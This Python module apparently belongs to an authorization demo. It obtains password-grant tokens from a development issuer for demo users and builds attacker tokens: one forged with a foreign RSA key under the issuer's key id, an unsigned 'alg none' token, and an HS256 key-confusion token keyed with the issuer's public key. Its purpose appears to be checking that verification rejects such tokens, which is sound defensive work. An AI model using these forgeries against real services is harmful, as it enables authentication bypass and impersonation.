"""Credentials for the cast: tokens from the development issuer, and the attacker's own."""

import base64
import hmac
import http.client
import json
import time
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlencode, urlsplit

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from authz.demo.ca import CertificateFiles
from authz.demo.cast import AUDIENCE, Person

TIMEOUT_SECONDS = 5.0


@dataclass(frozen=True, slots=True, kw_only=True)
class Wallet:
    """`issuer_url` is the issuer's `iss`; the certificates are the job's real one and an impostor's copy of its name."""

    issuer_url: str
    extract_job: CertificateFiles
    impostor: CertificateFiles

    def token(self, person: Person, **form: str) -> str:
        """A token for `person` as a password grant gives it; `form` adds what the development issuer understands."""
        answer = self._post(
            _path(self.issuer_url, "/v1/token"),
            {"grant_type": "password", "username": person.username, **form},
        )
        return str(answer["access_token"])

    def rotate_issuer_keys(self) -> str:
        """Make the issuer sign with a new key; its id."""
        return str(self._post("/rotate", {})["kid"])

    def forged(self, person: Person) -> str:
        """A token that is right in every word, under the issuer's key id, signed by somebody else's key."""
        real = jwt.get_unverified_header(self.token(person))
        key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        return jwt.encode(self._claims(person), key, algorithm="RS256", headers=real)

    def unsigned(self, person: Person) -> str:
        """The oldest trick: `alg` none and no signature (RFC 7519 section 6.1)."""
        header = {"alg": "none", "typ": "at+jwt"}
        return f"{_segment(header)}.{_segment(self._claims(person))}."

    def confused(self, person: Person) -> str:
        """Key confusion: HS256, with the text of the issuer's public key as the secret (PyJWT CVE-2022-29217)."""
        real = jwt.get_unverified_header(self.token(person))
        public = next(
            key
            for key in jwt.PyJWKSet.from_dict(self._get(_path(self.issuer_url, "/v1/keys"))).keys
            if key.key_id == real["kid"]
        )
        pem = public.key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        signed = f"{_segment({**real, 'alg': 'HS256'})}.{_segment(self._claims(person))}"
        return f"{signed}.{_base64(hmac.digest(pem, signed.encode(), 'sha256'))}"

    def _claims(self, person: Person) -> dict[str, object]:
        now = int(time.time())
        return {
            "iss": self.issuer_url,
            "sub": person.subject,
            "aud": AUDIENCE,
            "iat": now,
            "exp": now + 3600,
            "groups": list(person.groups),
        }

    def _get(self, path: str) -> dict[str, Any]:
        return self._exchange("GET", path, None)

    def _post(self, path: str, form: dict[str, str]) -> dict[str, Any]:
        return self._exchange("POST", path, urlencode(form))

    def _exchange(self, method: str, path: str, body: str | None) -> dict[str, Any]:
        connection = http.client.HTTPConnection(urlsplit(self.issuer_url).netloc, timeout=TIMEOUT_SECONDS)
        try:
            connection.request(method, path, body, {"Content-Type": "application/x-www-form-urlencoded"})
            response = connection.getresponse()
            answer: dict[str, Any] = json.loads(response.read())
        finally:
            connection.close()
        if response.status != 200:
            raise ValueError(f"the issuer answered {response.status}: {answer.get('error_description')}")
        return answer


def _segment(value: Mapping[str, object]) -> str:
    return _base64(json.dumps(value).encode())


def _base64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _path(url: str, rest: str) -> str:
    return urlsplit(url).path + rest
